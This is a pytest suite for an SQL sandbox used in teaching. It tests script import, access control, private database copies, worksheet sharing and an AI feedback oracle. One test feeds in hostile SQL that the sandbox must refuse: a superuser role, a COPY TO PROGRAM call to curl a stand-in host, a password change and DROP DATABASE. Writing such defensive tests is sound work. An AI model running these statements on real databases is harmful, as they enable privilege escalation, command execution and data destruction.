"""End-to-end flows through the SqlSandbox facade."""

from __future__ import annotations

import asyncio

import httpx
import pytest

from sql_sandbox.driver.base import DriverError, QueryOutcome
from sql_sandbox.errors import (
    DatabaseAlreadyExists,
    EmptyScript,
    ForbiddenCommand,
    InvalidDatabaseName,
    MissingCreateStatement,
    NotFound,
    OracleUnavailable,
    StatementFailed,
    SqlSyntaxError,
)
from sql_sandbox.models.database import LogicalDatabase
from sql_sandbox.models.enums import CommandKind
from sql_sandbox.oracle.client import FeedbackClient
from sql_sandbox.repository.memory import InMemoryRepository
from sql_sandbox.service import SqlSandbox, parse_create_database

SHOP_SCRIPT = """
CREATE DATABASE shop;
CREATE TABLE customers (id int PRIMARY KEY, name text);
INSERT INTO customers VALUES (1, 'Ada; Lovelace');
"""

OWNER = 1
STUDENT = 2


class FlakyRegistrationRepository(InMemoryRepository):
    """Fails to register databases until ``fail_register`` is cleared."""

    def __init__(self) -> None:
        super().__init__()
        self.fail_register = True

    async def add_database(self, database: LogicalDatabase) -> bool:
        if self.fail_register:
            raise ConnectionError("repository unreachable")
        return await super().add_database(database)


def _oracle(content: str) -> FeedbackClient:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json={"choices": [{"message": {"content": content}}]})

    return FeedbackClient(
        "https://oracle.test", "key", "tutor-1", transport=httpx.MockTransport(handler)
    )


@pytest.fixture
def sandbox(repository, driver) -> SqlSandbox:
    return SqlSandbox(repository, driver, read_timeout=1, manipulation_timeout=1, script_timeout=1)


def _register(repository, driver, name="shop", owner_id=OWNER):
    driver.databases.add(name)
    asyncio.run(repository.add_database(LogicalDatabase(name=name, owner_id=owner_id)))


class TestParseCreateDatabase:
    @pytest.mark.parametrize(
        "statement, name",
        [
            ("CREATE DATABASE shop", "shop"),
            ("create database Shop", "shop"),
            ('CREATE DATABASE "MyShop"', "MyShop"),
            ("CREATE   DATABASE\nlibrary_2", "library_2"),
        ],
    )
    def test_names(self, statement, name):
        assert parse_create_database(statement) == name

    @pytest.mark.parametrize("statement", ["CREATE TABLE t (a int)", "SELECT 1", "CREATE SCHEMA s"])
    def test_missing_create(self, statement):
        with pytest.raises(MissingCreateStatement):
            parse_create_database(statement)

    @pytest.mark.parametrize("name", ["ab", "1shop", "shop-2", "x" * 64])
    def test_invalid_names(self, name):
        with pytest.raises(InvalidDatabaseName):
            parse_create_database(f"CREATE DATABASE {name}")


class TestImportScript:
    def test_imports_and_registers(self, sandbox, repository, driver):
        result = asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))

        assert result.database == "shop"
        assert result.statements_executed == 2
        assert result.tables_created == ["customers"]
        database = asyncio.run(repository.get_database("shop"))
        assert database.owner_id == OWNER
        assert "shop" in driver.databases

    def test_failing_statement_reports_script_position(self, sandbox, repository, driver):
        driver.failures["CREATE TABLE customers (id int PRIMARY KEY, name text)"] = DriverError(
            'syntax error at or near "text"', sqlstate="42601"
        )

        with pytest.raises(StatementFailed) as exc_info:
            asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))

        assert exc_info.value.index == 2
        assert isinstance(exc_info.value.cause, SqlSyntaxError)
        assert asyncio.run(repository.get_database("shop")) is None
        assert "shop" not in driver.databases

    def test_missing_create_statement(self, sandbox, driver):
        with pytest.raises(MissingCreateStatement):
            asyncio.run(sandbox.import_script("CREATE TABLE t (a int);", OWNER))
        assert driver.databases == set()

    def test_empty_script(self, sandbox):
        with pytest.raises(EmptyScript):
            asyncio.run(sandbox.import_script(" ; ", OWNER))

    def test_registered_name_is_rejected(self, sandbox, repository, driver):
        _register(repository, driver)
        with pytest.raises(DatabaseAlreadyExists):
            asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))
        assert driver.dropped == []

    def test_existing_server_database_is_kept(self, sandbox, repository, driver):
        driver.databases.add("shop")
        with pytest.raises(DatabaseAlreadyExists):
            asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))
        assert "shop" in driver.databases
        assert asyncio.run(repository.get_database("shop")) is None

    def test_create_only_script(self, sandbox, repository):
        result = asyncio.run(sandbox.import_script("CREATE DATABASE empty_db;", OWNER))
        assert result.statements_executed == 0
        assert result.tables_created == []
        assert asyncio.run(repository.get_database("empty_db")) is not None

    def test_failed_registration_drops_database(self, driver):
        repository = FlakyRegistrationRepository()
        sandbox = SqlSandbox(repository, driver, script_timeout=1)

        with pytest.raises(ConnectionError):
            asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))
        assert "shop" in driver.dropped
        assert "shop" not in driver.databases

        repository.fail_register = False
        result = asyncio.run(sandbox.import_script(SHOP_SCRIPT, OWNER))
        assert result.database == "shop"
        assert asyncio.run(repository.get_database("shop")).owner_id == OWNER

    def test_cancelled_import_drops_database(self, sandbox, repository, driver):
        driver.slow.add("CREATE TABLE customers (id int PRIMARY KEY, name text)")

        async def scenario():
            task = asyncio.create_task(sandbox.import_script(SHOP_SCRIPT, OWNER))
            await asyncio.sleep(0.05)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task

        asyncio.run(scenario())

        assert "shop" not in driver.databases
        assert asyncio.run(repository.get_database("shop")) is None

    @pytest.mark.parametrize(
        "statement",
        [
            "CREATE ROLE mallory SUPERUSER LOGIN",
            "COPY customers TO PROGRAM 'curl https://evil.test'",
            "GRANT ALL ON customers TO PUBLIC",
            "-- harmless setup\nGRANT ALL ON customers TO PUBLIC",
            "/* owner */ ALTER USER postgres PASSWORD 'x'",
            "DROP DATABASE postgres",
        ],
    )
    def test_escape_is_refused_before_creation(self, sandbox, repository, driver, statement):
        script = f"CREATE DATABASE shop;\nCREATE TABLE customers (id int);\n{statement};"

        with pytest.raises(ForbiddenCommand, match="Statement 3"):
            asyncio.run(sandbox.import_script(script, OWNER))

        assert driver.databases == set()
        assert driver.connections == []
        assert asyncio.run(repository.get_database("shop")) is None


class TestCreateDatabase:
    def test_creates_with_description(self, sandbox, repository):
        result = asyncio.run(
            sandbox.create_database(
                "library", "CREATE TABLE books (id int);", OWNER, description="Books"
            )
        )
        assert result.tables_created == ["books"]
        assert asyncio.run(repository.get_database("library")).description == "Books"

    def test_script_may_not_create_databases(self, sandbox, driver):
        with pytest.raises(ForbiddenCommand):
            asyncio.run(
                sandbox.create_database("library", "CREATE DATABASE other; SELECT 1", OWNER)
            )
        assert driver.databases == set()

    def test_script_may_not_create_roles(self, sandbox, driver):
        with pytest.raises(ForbiddenCommand, match="Statement 2: CREATE ROLE"):
            asyncio.run(
                sandbox.create_database(
                    "library", "CREATE TABLE books (id int); CREATE ROLE reader", OWNER
                )
            )
        assert driver.databases == set()

    def test_invalid_name(self, sandbox):
        with pytest.raises(InvalidDatabaseName):
            asyncio.run(sandbox.create_database("no", "SELECT 1", OWNER))


class TestRunQuery:
    def test_owner_can_query(self, sandbox, repository, driver):
        _register(repository, driver)
        driver.results["SELECT * FROM customers"] = QueryOutcome(
            columns=["id"], rows=[{"id": 1}], rowcount=1
        )

        result = asyncio.run(sandbox.run_query("SELECT * FROM customers", "shop", OWNER))

        assert result.rows == [{"id": 1}]
        conn = driver.connections[0]
        assert conn.database == "shop"
        assert conn.read_only is True

    def test_stranger_gets_not_found(self, sandbox, repository, driver):
        _register(repository, driver)
        with pytest.raises(NotFound):
            asyncio.run(sandbox.run_query("SELECT 1", "shop", STUDENT))
        assert driver.connections == []

    def test_worksheet_grants_access(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(repository.add_worksheet_reference("shop"))
        result = asyncio.run(sandbox.run_query("SELECT 1", "shop", STUDENT))
        assert result.command_kind == CommandKind.SELECT

    def test_write_is_forbidden(self, sandbox, repository, driver):
        _register(repository, driver)
        with pytest.raises(ForbiddenCommand):
            asyncio.run(sandbox.run_query("DELETE FROM customers", "shop", OWNER))
        assert driver.connections == []

    def test_check_access(self, sandbox, repository, driver):
        _register(repository, driver)
        assert asyncio.run(sandbox.check_access("shop", OWNER)) is True
        assert asyncio.run(sandbox.check_access("shop", STUDENT)) is False
        assert asyncio.run(sandbox.check_access("missing", OWNER)) is False


class TestRunManipulation:
    def test_runs_on_private_copy(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(repository.add_worksheet_reference("shop"))

        result = asyncio.run(sandbox.run_manipulation("DELETE FROM customers", "shop", STUDENT))

        assert result.command_kind == CommandKind.DELETE
        assert result.copy_database != "shop"
        assert result.reset_performed is False
        assert all(conn.database == result.copy_database for conn in driver.connections)

    def test_copy_is_reused(self, sandbox, repository, driver):
        _register(repository, driver)
        first = asyncio.run(sandbox.run_manipulation("DELETE FROM t", "shop", OWNER))
        second = asyncio.run(sandbox.run_manipulation("SELECT * FROM t", "shop", OWNER))
        assert first.copy_database == second.copy_database

    def test_reset_replaces_copy(self, sandbox, repository, driver):
        _register(repository, driver)
        first = asyncio.run(sandbox.run_manipulation("DELETE FROM t", "shop", OWNER))
        second = asyncio.run(
            sandbox.run_manipulation("SELECT * FROM t", "shop", OWNER, reset=True)
        )

        assert second.reset_performed is True
        assert second.copy_database != first.copy_database
        assert first.copy_database not in driver.databases

    def test_reset_without_copy(self, sandbox, repository, driver):
        _register(repository, driver)
        result = asyncio.run(sandbox.run_manipulation("SELECT 1", "shop", OWNER, reset=True))
        assert result.reset_performed is False

    def test_invalid_statement_creates_no_copy(self, sandbox, repository, driver):
        _register(repository, driver)
        with pytest.raises(ForbiddenCommand):
            asyncio.run(sandbox.run_manipulation("DROP DATABASE shop", "shop", OWNER))
        assert driver.clones == []


class TestDeleteDatabase:
    def test_owner_deletes_database_and_copies(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(repository.add_worksheet_reference("shop"))
        copy = asyncio.run(sandbox.ensure_copy("shop", STUDENT))

        asyncio.run(sandbox.delete_database("shop", OWNER))

        assert driver.databases == set()
        assert copy in driver.dropped
        assert asyncio.run(repository.get_database("shop")) is None
        assert asyncio.run(repository.list_copies("shop")) == []

    def test_worksheet_access_is_not_enough(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(repository.add_worksheet_reference("shop"))
        with pytest.raises(NotFound):
            asyncio.run(sandbox.delete_database("shop", STUDENT))
        assert "shop" in driver.databases


class TestWorksheetReferences:
    def test_publish_opens_database_to_students(self, sandbox, repository, driver):
        _register(repository, driver)

        assert asyncio.run(sandbox.publish_to_worksheet("shop", OWNER)) == 1
        assert asyncio.run(sandbox.publish_to_worksheet("shop", OWNER)) == 2
        assert asyncio.run(sandbox.check_access("shop", STUDENT)) is True

    def test_withdrawing_last_reference_closes_access(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(sandbox.publish_to_worksheet("shop", OWNER))

        assert asyncio.run(sandbox.withdraw_from_worksheet("shop", OWNER)) == 0
        assert asyncio.run(sandbox.withdraw_from_worksheet("shop", OWNER)) == 0
        assert asyncio.run(sandbox.check_access("shop", STUDENT)) is False

    def test_only_owner_may_publish(self, sandbox, repository, driver):
        _register(repository, driver)
        asyncio.run(repository.add_worksheet_reference("shop"))

        with pytest.raises(NotFound):
            asyncio.run(sandbox.publish_to_worksheet("shop", STUDENT))
        with pytest.raises(NotFound):
            asyncio.run(sandbox.withdraw_from_worksheet("shop", STUDENT))
        assert asyncio.run(repository.worksheet_reference_count("shop")) == 1


class TestListAndInspect:
    def test_list_databases(self, sandbox, repository, driver):
        _register(repository, driver, "shop", OWNER)
        _register(repository, driver, "library", STUDENT)

        names = [db.name for db in asyncio.run(sandbox.list_databases())]
        mine = [db.name for db in asyncio.run(sandbox.list_databases(OWNER))]

        assert names == ["library", "shop"]
        assert mine == ["shop"]

    def test_inspect_database(self, sandbox, repository, driver):
        _register(repository, driver)
        driver.tables["shop"] = {"customers"}
        schema = asyncio.run(sandbox.inspect_database("shop", OWNER))
        assert [t.name for t in schema.tables] == ["customers"]


class TestCheckQueryMatchesTask:
    def test_delegates_to_oracle(self, repository, driver):
        sandbox = SqlSandbox(repository, driver, oracle=_oracle("NEIN, der JOIN fehlt."))

        check = asyncio.run(sandbox.check_query_matches_task("Join orders", "SELECT 1"))

        assert check.matches is False
        assert check.answer.startswith("NEIN")

    def test_without_oracle(self, sandbox):
        with pytest.raises(OracleUnavailable, match="oracle"):
            asyncio.run(sandbox.check_query_matches_task("task", "SELECT 1"))


class TestGenerateTask:
    def test_drafts_task_for_accessible_database(self, repository, driver):
        _register(repository, driver)
        driver.tables["shop"] = {"customers"}
        sandbox = SqlSandbox(repository, driver, oracle=_oracle(" List all customers. "))

        task = asyncio.run(sandbox.generate_task("select", "easy", "shop", OWNER))

        assert task == "List all customers."

    def test_stranger_gets_not_found(self, repository, driver):
        _register(repository, driver)
        sandbox = SqlSandbox(repository, driver, oracle=_oracle("unused"))
        with pytest.raises(NotFound):
            asyncio.run(sandbox.generate_task("select", "easy", "shop", STUDENT))

    def test_without_oracle(self, sandbox, repository, driver):
        _register(repository, driver)
        with pytest.raises(OracleUnavailable):
            asyncio.run(sandbox.generate_task("select", "easy", "shop", OWNER))
        assert driver.connections == []
